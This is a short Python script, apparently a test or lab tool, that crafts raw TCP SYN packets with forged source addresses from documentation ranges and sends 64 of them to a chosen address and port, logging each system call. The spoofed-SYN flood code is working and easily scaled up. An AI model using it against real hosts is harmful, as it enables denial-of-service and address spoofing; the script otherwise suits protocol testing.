"""SYNs from 64 addresses that are nobody's, written by hand, and no more than these.

By hand:    sudo python3 syn_flood.py ADDRESS PORT
against a server of your own, on a network of your own: the answers go to 203.0.113.1 and so on, or
to 2001:db8:113::1 (RFC 5737, RFC 3849: nobody has these). It needs the capability CAP_NET_RAW
(raw(7)). Where the environment has READY_FD, a line is written to that descriptor at the end.
"""

import ipaddress
import os
import socket
import struct
import sys

SYNS = 64
NOBODYS = {4: ipaddress.ip_address("203.0.113.0"), 6: ipaddress.ip_address("2001:db8:113::")}
SYN, HEADER_WORDS, WINDOW, HOPS = 0x02, 6, 64240, 64
MSS = struct.pack("!BBH", 2, 4, 1460)
IPV6_HDRINCL = 36  # include/uapi/linux/in6.h; the socket module has no name for it


def show(call, result):
    """Print a call and what it returned, as strace would."""
    print(f"{call} = {result}", flush=True)


def checksum(data):
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, source_port, port):
    """An IP packet with a SYN (RFC 9293, 3.1; RFC 791, 3.1; RFC 8200, 3)."""
    length = 4 * HEADER_WORDS

    def segment(check):
        flags = HEADER_WORDS << 12 | SYN
        fields = (source_port, port, source_port << 16, 0, flags, WINDOW, check, 0)
        return struct.pack("!HHIIHHHH", *fields) + MSS

    pseudo = source.packed + target.packed + struct.pack("!II", length, socket.IPPROTO_TCP)
    tcp = segment(checksum(pseudo + segment(0)))
    if source.version == 6:
        head = struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_TCP, HOPS)
        return head + source.packed + target.packed + tcp
    # The kernel fills in the header's checksum (raw(7), IP_HDRINCL).
    words = (0x45, 0, 20 + length, 1, 0, HOPS, socket.IPPROTO_TCP, 0)
    return struct.pack("!BBHHHBBH", *words) + source.packed + target.packed + tcp


def main(address, port):
    target = ipaddress.ip_address(address)
    if target.version == 6:
        sender = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        show("socket(AF_INET6, SOCK_RAW, IPPROTO_RAW)", sender.fileno())
        sender.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)
        show(f"setsockopt({sender.fileno()}, IPPROTO_IPV6, IPV6_HDRINCL, 1)", 0)
    else:
        sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        show("socket(AF_INET, SOCK_RAW, IPPROTO_RAW)", sender.fileno())
    for number in range(1, SYNS + 1):
        data = packet(NOBODYS[target.version] + number, target, 1024 + number, port)
        sent = sender.sendto(data, (address, 0))
        show(f"sendto({sender.fileno()}, {data!r}, 0, {(address, 0)})", sent)
    number = sender.fileno()
    sender.close()
    show(f"close({number})", 0)
    if "READY_FD" in os.environ:
        os.write(int(os.environ["READY_FD"]), b"sent\n")


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(f"usage: {sys.argv[0]} ADDRESS PORT")
    main(sys.argv[1], int(sys.argv[2]))
